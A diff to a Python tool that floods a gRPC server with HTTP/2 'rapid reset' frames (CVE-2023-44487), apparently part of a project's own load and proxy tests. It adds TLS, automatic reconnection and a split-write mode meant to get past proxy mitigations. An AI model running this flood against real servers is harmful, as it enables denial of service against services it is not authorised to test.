@@ -1,7 +1,8 @@
 #!/usr/bin/python3
 """HTTP/2 "rapid reset" flood (CVE-2023-44487) against a gRPC server.
 
-One plain-text HTTP/2 connection over a socket: Debian's python3-h2 writes
+One HTTP/2 connection over a socket (plain text, or TLS with ALPN h2 and
+--tls CA_PEM, e.g. to a TLS-terminating proxy): Debian's python3-h2 writes
 the connection preface and SETTINGS, and its HPACK encoder the request's
 header block (POST /cgacct.v1.Accounting/GetEngineInfo, a gRPC request with
 no message yet). Then, for SECONDS, as fast as the socket takes them:
@@ -11,19 +12,32 @@ us per pair, which caps a flood at ~5k pairs/s); what the server sends
 meanwhile is read without waiting: SETTINGS and PING are acknowledged,
 GOAWAY ends the flood. Then the connection is closed.
 
-  rapid_reset_flood.py HOST PORT [SECONDS [RATE]]
+  rapid_reset_flood.py HOST PORT [SECONDS [RATE]] [--tls CA_PEM]
+                       [--server-name NAME] [--reconnect] [--split GAP]
     SECONDS  default 8
     RATE     pairs per second, 0 (the default) = as fast as possible;
              with a rate, writes are 100 pairs, paced
+    --tls    TLS 1.2+ with ALPN "h2", the server's certificate verified
+             against CA_PEM (for NAME, default HOST)
+    --reconnect  a new connection whenever the server ends one (GOAWAY or
+             close), until SECONDS are over: what an attacker does against
+             a server that closes flooding connections
+    --split  HEADERS for 100 new streams in one write, their RST_STREAMs
+             GAP seconds later in the next (the streams of a write stay
+             within a SETTINGS_MAX_CONCURRENT_STREAMS of 100): what gets
+             past a proxy that drops a stream reset in the same read
 
 Prints one JSON line: pairs sent, seconds, pairs/s, the GOAWAY error code
-if the server sent one, whether the server closed the connection. Exit
-status 0 unless the connection could not be made. A test tool: used by
-rapid_reset_test.py.
+if the server sent one, whether the server closed the connection, and the
+connections made (with --reconnect, the GOAWAYs received). Exit
+status 0 unless the connection (or the TLS handshake) could not be made.
+A test tool: used by rapid_reset_test.py and tests/deploy/front_proxy_test.py.
 """
+import argparse
 import json
 import select
 import socket
+import ssl
 import struct
 import sys
 import time
@@ -43,16 +57,79 @@ def frame(kind, flags, stream_id, payload):
             struct.pack(">BBI", kind, flags, stream_id) + payload)
 
 
-def flood(host, port, seconds, rate=0):
+def connect(host, port, tls_ca=None, server_name=None):
+    """A connected socket, TLS-wrapped (ALPN h2, verified) with tls_ca."""
     sock = socket.create_connection((host, port), timeout=5)
     sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    if tls_ca is None:
+        return sock
+    context = ssl.create_default_context(cafile=tls_ca)
+    context.set_alpn_protocols(["h2"])
+    sock = context.wrap_socket(sock, server_hostname=server_name or host)
+    if sock.selected_alpn_protocol() != "h2":
+        sock.close()
+        raise OSError("the TLS server did not select ALPN h2")
+    return sock
+
+
+def read_ready(sock):
+    """Bytes the server sent that can be read without waiting; None when it
+    closed the connection. A TLS socket may hold decrypted bytes that
+    select() does not see (pending()), and a readable socket may hold only
+    part of a TLS record (a would-block read)."""
+    out = b""
+    while True:
+        if not (isinstance(sock, ssl.SSLSocket) and sock.pending()):
+            readable, _, _ = select.select([sock], [], [], 0)
+            if not readable:
+                return out
+        sock.settimeout(0)
+        try:
+            data = sock.recv(1 << 16)
+        except (ssl.SSLWantReadError, BlockingIOError):
+            return out
+        except OSError:
+            data = b""
+        finally:
+            sock.settimeout(5)
+        if not data:
+            return None if not out else out
+        out += data
+
+
+def parse(pending, goaway):
+    """Whole frames of `pending` read: (the bytes left, the replies to send:
+    SETTINGS and PING acknowledged, the GOAWAY error code if one came, else
+    `goaway`)."""
+    replies = []
+    while len(pending) >= 9:
+        length = int.from_bytes(pending[:3], "big")
+        if len(pending) < 9 + length:
+            break
+        kind, flags = pending[3], pending[4]
+        payload = pending[9:9 + length]
+        pending = pending[9 + length:]
+        if kind == SETTINGS and not flags & ACK:
+            replies.append(frame(SETTINGS, ACK, 0, b""))
+        elif kind == PING and not flags & ACK:
+            replies.append(frame(PING, ACK, 0, payload))
+        elif kind == GOAWAY:
+            goaway = int.from_bytes(payload[4:8], "big")
+    return pending, replies, goaway
+
+
+def flood_connection(host, port, seconds, rate=0, tls_ca=None,
+                     server_name=None, split_gap=None):
+    """One connection's flood, until `seconds` are over or the server
+    ends it: its figures (see the module's doc)."""
+    sock = connect(host, port, tls_ca, server_name)
     conn = h2.connection.H2Connection(
         config=h2.config.H2Configuration(client_side=True))
     conn.initiate_connection()
     sock.sendall(conn.data_to_send())
     headers = [
         (":method", "POST"),
-        (":scheme", "http"),
+        (":scheme", "http" if tls_ca is None else "https"),
         (":path", "/cgacct.v1.Accounting/GetEngineInfo"),
         (":authority", "%s:%d" % (host, port)),
         ("content-type", "application/grpc"),
@@ -69,56 +146,48 @@ def flood(host, port, seconds, rate=0):
     pending = b""
     start = time.monotonic()
     end = start + seconds
-    per_write = PAIRS_PER_WRITE if rate <= 0 else 100
+    per_write = PAIRS_PER_WRITE if rate <= 0 and split_gap is None else 100
     while time.monotonic() < end and goaway is None and not closed:
         if rate > 0:
             ahead = start + pairs / rate - time.monotonic()
             if ahead > 0:
                 time.sleep(ahead)
-        out = []
+        headers, resets = [], []
         for _ in range(per_write):
-            out.append(frame(HEADERS, END_HEADERS, stream_id,
-                             first_block if stream_id == 1 else block))
-            out.append(frame(RST_STREAM, 0, stream_id, rst_payload))
+            headers.append(frame(HEADERS, END_HEADERS, stream_id,
+                                 first_block if stream_id == 1 else block))
+            resets.append(frame(RST_STREAM, 0, stream_id, rst_payload))
             stream_id += 2
         try:
-            sock.sendall(b"".join(out))
+            if split_gap is None:
+                sock.sendall(b"".join(h + r for h, r in zip(headers, resets)))
+            else:
+                # The streams opened in one write, reset in the next: a
+                # proxy has passed them on by then.
+                sock.sendall(b"".join(headers))
+                time.sleep(split_gap)
+                sock.sendall(b"".join(resets))
         except OSError:
             closed = True
             break
         pairs += per_write
         # What the server sent meanwhile (without waiting).
-        replies = []
-        while True:
-            readable, _, _ = select.select([sock], [], [], 0)
-            if not readable:
-                break
-            try:
-                data = sock.recv(1 << 16)
-            except OSError:
-                data = b""
-            if not data:
-                closed = True
-                break
-            pending += data
-            while len(pending) >= 9:
-                length = int.from_bytes(pending[:3], "big")
-                if len(pending) < 9 + length:
-                    break
-                kind, flags = pending[3], pending[4]
-                payload = pending[9:9 + length]
-                pending = pending[9 + length:]
-                if kind == SETTINGS and not flags & ACK:
-                    replies.append(frame(SETTINGS, ACK, 0, b""))
-                elif kind == PING and not flags & ACK:
-                    replies.append(frame(PING, ACK, 0, payload))
-                elif kind == GOAWAY:
-                    goaway = int.from_bytes(payload[4:8], "big")
+        data = read_ready(sock)
+        if data is None:
+            closed = True
+        pending, replies, goaway = parse(pending + (data or b""), goaway)
         if replies and not closed:
             try:
                 sock.sendall(b"".join(replies))
             except OSError:
                 closed = True
+    if closed and goaway is None:
+        # A server that closes says why first: a GOAWAY still unread.
+        try:
+            pending, _, goaway = parse(pending + (read_ready(sock) or b""),
+                                       goaway)
+        except OSError:
+            pass
     elapsed = time.monotonic() - start
     sock.close()
     return {
@@ -130,14 +199,56 @@ def flood(host, port, seconds, rate=0):
     }
 
 
+def flood(host, port, seconds, rate=0, tls_ca=None, server_name=None,
+          reconnect=False, split_gap=None):
+    """The flood: one connection, or with `reconnect` a new one whenever the
+    server ends one (GOAWAY or close), until `seconds` are over; the
+    figures summed ("connections", "goaways": how many; "goaway": the last
+    code)."""
+    if not reconnect:
+        return dict(flood_connection(host, port, seconds, rate, tls_ca,
+                                     server_name, split_gap), connections=1)
+    start = time.monotonic()
+    total = {"pairs": 0, "goaway": None, "closed_by_server": False,
+             "connections": 0, "goaways": 0}
+    while True:
+        left = seconds - (time.monotonic() - start)
+        if left <= 0:
+            break
+        one = flood_connection(host, port, left, rate, tls_ca, server_name,
+                               split_gap)
+        total["connections"] += 1
+        total["pairs"] += one["pairs"]
+        if one["goaway"] is not None:
+            total["goaways"] += 1
+            total["goaway"] = one["goaway"]
+        total["closed_by_server"] |= one["closed_by_server"]
+        if rate > 0:
+            # Paced across connections: the rate is of the whole flood.
+            ahead = start + total["pairs"] / rate - time.monotonic()
+            if ahead > 0:
+                time.sleep(min(ahead, max(0.0, left)))
+    elapsed = time.monotonic() - start
+    total["seconds"] = round(elapsed, 3)
+    total["pairs_per_s"] = round(total["pairs"] / elapsed) if elapsed else 0
+    return total
+
+
 def main():
-    if len(sys.argv) < 3:
-        print(__doc__, file=sys.stderr)
-        return 2
-    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 8.0
-    rate = float(sys.argv[4]) if len(sys.argv) > 4 else 0.0
-    print(json.dumps(flood(sys.argv[1], int(sys.argv[2]), seconds, rate)),
-          flush=True)
+    parser = argparse.ArgumentParser(
+        description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
+    parser.add_argument("host")
+    parser.add_argument("port", type=int)
+    parser.add_argument("seconds", type=float, nargs="?", default=8.0)
+    parser.add_argument("rate", type=float, nargs="?", default=0.0)
+    parser.add_argument("--tls", metavar="CA_PEM")
+    parser.add_argument("--server-name")
+    parser.add_argument("--reconnect", action="store_true")
+    parser.add_argument("--split", type=float, metavar="GAP")
+    args = parser.parse_args()
+    print(json.dumps(flood(args.host, args.port, args.seconds, args.rate,
+                           args.tls, args.server_name, args.reconnect,
+                           args.split)), flush=True)
     return 0
 
 
